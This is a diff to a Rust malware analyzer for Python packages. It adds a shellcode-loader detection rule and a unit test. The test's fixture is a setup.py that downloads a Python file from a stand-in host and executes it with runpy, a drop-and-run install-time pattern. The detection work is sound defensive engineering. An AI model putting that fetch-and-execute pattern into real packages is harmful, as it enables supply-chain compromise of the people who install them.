@@ -371,6 +371,13 @@ impl Analyzer {
                 let msg = "downloads a file and runs a program".to_string();
                 findings_extra.push(raw("PY-DL-WRITE-EXEC", path, line, &snip, msg, Some(scope)));
             }
+            // Executable memory and native code started in the same file: a shellcode loader.
+            if !facts.native_alloc.is_empty()
+                && let Some((_, line, scope, snip)) = facts.native_run.first().cloned()
+            {
+                let msg = "allocates executable memory and starts native code in it".to_string();
+                findings_extra.push(raw("PY-SHELLCODE", path, line, &snip, msg, Some(scope)));
+            }
             // Host identity collected and network used, both at install or import time.
             let early = |s: &Scope| s.stage != Stage::Runtime && s.factor >= 1.0;
             if facts.host_collect.iter().any(|(_, _, s, _)| early(s))
@@ -969,6 +976,23 @@ mod tests {
         let t = at("p-1/tests/test_run.py");
         assert!(t.score > 0.0);
         assert_ne!(t.verdict, Verdict::Malicious, "{t:?}");
+    }
+
+    #[test]
+    fn running_a_downloaded_python_file_with_runpy_is_drop_and_run() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let rules_of = |run: &str| {
+            let src = format!(
+                "import runpy, urllib.request\nurllib.request.urlretrieve('http://x.test/a.py', 'a.py')\n{run}\n"
+            );
+            a.analyze(&[pf("p-1/setup.py", &src)], &[])
+                .findings
+                .into_iter()
+                .map(|f| f.rule)
+                .collect::<Vec<_>>()
+        };
+        assert!(rules_of("runpy.run_path('a.py')").contains(&"PY-DL-WRITE-EXEC".to_string()));
+        assert!(!rules_of("print('a.py')").contains(&"PY-DL-WRITE-EXEC".to_string()));
     }
 
     #[test]
